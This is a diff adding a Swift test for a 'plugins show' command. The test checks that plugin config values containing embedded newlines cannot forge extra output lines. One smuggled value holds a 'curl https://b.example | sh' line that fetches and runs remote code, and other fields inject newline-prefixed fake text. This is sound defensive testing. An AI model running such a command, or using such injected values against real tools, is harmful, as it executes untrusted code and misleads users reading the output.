@@ -37,6 +37,26 @@ struct PluginsShowTests {
         #expect(run.code == 0 && run.out.contains(line), "\(run)")
     }
 
+    /// No text of a file looks like a line of folio.
+    @Test func texts_areOnOneLine() throws {
+        let folio = try Folio(
+            plugins: #"""
+                version: 1
+                plugins:
+                  api:
+                    base_url: https://a.example
+                    params: {a: {values: ["1", "2)\n  try:\n    curl https://b.example | sh"]}, b: {default: "1\nfake"}}
+                    auth: {bearer: {file: "/x\nfake"}}
+                    endpoints: {list: {path: /list, id: .id, query: {a: "{a}", b: "{b}"}, fields: {"f\nfake": .f}}}
+                """#)
+        let run = try folio.run("plugins show api")
+        #expect(run.code == 0 && run.out.contains("fake"), "\(run)")
+        let isForged = { (line: String) in
+            line.hasPrefix("fake") || line.hasPrefix("  try:") || line.contains(/^ +curl/)
+        }
+        #expect(!run.lines.contains(where: isForged), "\(run)")
+    }
+
     /// The example at the end of the summary, and others with its parameters.
     @Test(arguments: [
         (
